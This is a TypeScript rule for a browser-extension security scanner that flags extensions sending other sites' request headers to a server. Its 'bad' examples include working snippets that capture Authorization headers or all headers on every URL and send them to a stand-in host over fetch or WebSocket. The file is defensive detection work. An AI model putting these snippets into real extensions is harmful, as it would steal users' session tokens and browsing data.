import { callAt, callsOf, constant, type ScriptFacts } from '../../facts/javascript/query.ts';
import { flowsOf } from '../../extension/flowsOf.ts';
import type { Flow } from '../../taint/flow.ts';
import { defineRule } from '../../rule.ts';
import { backgroundExample, checkScripts } from './checkScripts.ts';
import { leavesBy } from './sendings.ts';
import { itemsOf } from '../../facts/javascript/itemsOf.ts';
import { say } from '../../../texts/say.ts';

const EVENTS = ['chrome.webRequest.onBeforeSendHeaders.addListener', 'chrome.webRequest.onSendHeaders.addListener'];

/** Values of a script in which little can be mixed up: a few hundred lines. */
const MOST_VALUES = 3000;
/** How flows call what is read of them. */
const HEADERS = 'headers of a request that a page makes';

export const requestHeadersSent = defineRule({
  id: 'request-headers-sent',
  title: 'Sends other sites’ request headers to a server',
  severity: 'critical',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-522',
  references: ['https://attack.mitre.org/techniques/T1557/'],
  why: 'Request headers hold cookies and tokens that open the user’s accounts, and addresses show what they do.',
  remedy: 'Inspect requests only for what the user asked for, and send nothing from them.',
  check: checkScripts(function* ({ script, facts, hit }) {
    for (const call of callsOf(script, ...EVENTS)) {
      if (!seesHeaders(script, call.args[2] ?? 0)) continue;
      const out = leavesBy(script, new Set([call.value]), ['network']);
      if (out === undefined) continue;
      // What a script of thousands of lines sends may be made of anything there: the flows say whether it is of headers.
      const isFew =
        script.op.length < MOST_VALUES || facts.whole(flowsOf).flows.some((flow) => isOfHeaders(flow, script));
      yield hit(call.value, {
        message: say('leave-by', out.to === '*' ? say('open-connection') : out.to),
        ...(isFew && callAt(script, out.value).args.length > 0 ? {} : { confidence: 'low' as const }),
        ...(isFew ? {} : { severity: 'medium' as const }),
      });
    }
  }),
  examples: {
    bad: [
      backgroundExample(
        'chrome.webRequest.onSendHeaders.addListener((d) => { const a = d.requestHeaders.find((h) => h.name === "Authorization"); if (a) fetch("https://x.example/t", { method: "POST", body: a.value }); }, { urls: ["<all_urls>"] }, ["requestHeaders"]);',
      ),
      backgroundExample(
        'const s = new WebSocket("wss://x.example"); const out = { tell: (k, d) => s.send(JSON.stringify({ k, d })) }; chrome.webRequest.onBeforeSendHeaders.addListener((d) => { const all = {}; for (const h of d.requestHeaders) all[h.name] = h.value; out.tell("seen", { all, url: d.url }); }, { urls: ["<all_urls>"] }, ["blocking", "requestHeaders"]);',
      ),
    ],
    good: [
      backgroundExample(
        'chrome.webRequest.onBeforeSendHeaders.addListener((d) => { d.requestHeaders.push({ name: "DNT", value: "1" }); return { requestHeaders: d.requestHeaders }; }, { urls: ["<all_urls>"] }, ["blocking", "requestHeaders"]); fetch("https://api.example.com/list");',
      ),
      backgroundExample(
        'let n = 0; chrome.webRequest.onSendHeaders.addListener(() => { n++; }, { urls: ["<all_urls>"] }, ["requestHeaders"]); fetch("https://api.example.com/ping", { method: "POST", body: "1" });',
      ),
    ],
  },
});

const seesHeaders = (script: ScriptFacts, list: number): boolean =>
  itemsOf(script, list).some((item) => constant(script, item) === 'requestHeaders');

const isOfHeaders = ({ source, sink }: Flow, script: ScriptFacts): boolean =>
  source.unit.script === script && source.label === HEADERS && sink.kind === 'network';
